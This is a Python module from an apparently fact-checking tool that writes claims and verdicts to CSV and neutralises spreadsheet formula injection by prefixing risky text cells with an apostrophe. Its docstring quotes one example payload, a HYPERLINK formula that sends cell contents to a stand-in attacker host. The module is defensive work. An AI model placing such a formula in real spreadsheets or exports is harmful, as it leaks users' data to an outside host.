"""Claims as CSV for spreadsheets, safe against formula injection.

Article text, speakers, rationales and source titles come from outside (imported articles, people
typing): a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?"&A1, "click")`). Every
such text cell is written with a leading apostrophe, which spreadsheets show as plain text (OWASP
"CSV Injection"). Numbers we produce ourselves (ids, offsets, scores) are written as numbers.
"""

import csv
from collections.abc import Iterable, Iterator

from factcheck.export import claim_export_record, verdict_export_record
from factcheck.models import Claim, Verdict

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

COLUMNS = [
    "claim_id",
    "article_id",
    "article_external_id",
    "article_url",
    "outlet",
    "start",
    "end",
    "exact",
    "type",
    "checkworthiness",
    "speaker",
    "speaker_role",
    "is_anonymous_source",
    "status",
    "origin",
    "extractor_version",
    "group_id",
    "verdict_status",
    "verdict_rating",
    "verdict_rationale",
    "verdict_confirmed",
    "sources",
]


def csv_cell_safe(value) -> str | int | float:
    """A value as a CSV cell that no spreadsheet evaluates. Text starting with a formula character
    gets a leading apostrophe; None becomes an empty cell; our own numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def _sources_cell(sources: list[dict]) -> str:
    return " | ".join(f"{s['title'] or s['url']} ({s['relation']}) {s['url']}" for s in sources)


def claim_csv_row(claim: Claim) -> list:
    record = claim_export_record(claim)
    verdicts = record["verdicts"]
    # The verdict that counts: the published one, else the latest.
    verdict = next((v for v in verdicts if v["status"] == "published"), verdicts[-1] if verdicts else None)
    sources = _sources_cell(record["sources"])
    values = {
        **record,
        "verdict_status": verdict["status"] if verdict else None,
        "verdict_rating": verdict["rating"] if verdict else None,
        "verdict_rationale": verdict["rationale"] if verdict else None,
        "sources": sources or None,
    }
    return [csv_cell_safe(values[column]) for column in COLUMNS]


def claims_csv_write(*, claims: Iterable[Claim], out) -> int:
    """Write a header and one row per claim to the text stream `out`; returns the number of rows."""
    count = -1  # the header is not a row
    for line in claims_csv_lines(claims=claims):
        out.write(line)
        count += 1
    return count


class _Line:
    def write(self, value):
        return value


def _csv_lines(columns: list[str], rows: Iterable[list]) -> Iterator[str]:
    writer = csv.writer(_Line(), quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    yield writer.writerow(columns)
    for row in rows:
        yield writer.writerow(row)


def claims_csv_lines(*, claims: Iterable[Claim]) -> Iterator[str]:
    """The same CSV as lines (for a streaming HTTP response)."""
    return _csv_lines(COLUMNS, (claim_csv_row(claim) for claim in claims))


VERDICT_COLUMNS = [
    "verdict_id",
    "group_id",
    "group_label",
    "status",
    "rating",
    "rating_value",
    "rationale",
    "reviewer",
    "approved_by",
    "published_by",
    "submitted_at",
    "published_at",
    "corrects",
    "correction_note",
    "mentions",
    "outlets",
    "sources",
]


def verdict_csv_row(verdict: Verdict) -> list:
    record = verdict_export_record(verdict)
    values = {
        **record,
        "mentions": len(record["mentions"]),
        "outlets": " | ".join(sorted({m["outlet"] for m in record["mentions"] if m["outlet"]})) or None,
        "sources": _sources_cell(record["sources"]) or None,
    }
    return [csv_cell_safe(values[column]) for column in VERDICT_COLUMNS]


def verdicts_csv_lines(*, verdicts: Iterable[Verdict]) -> Iterator[str]:
    """Verdicts as CSV lines, one row per verdict (formula cells neutralised like the claims')."""
    return _csv_lines(VERDICT_COLUMNS, (verdict_csv_row(v) for v in verdicts))
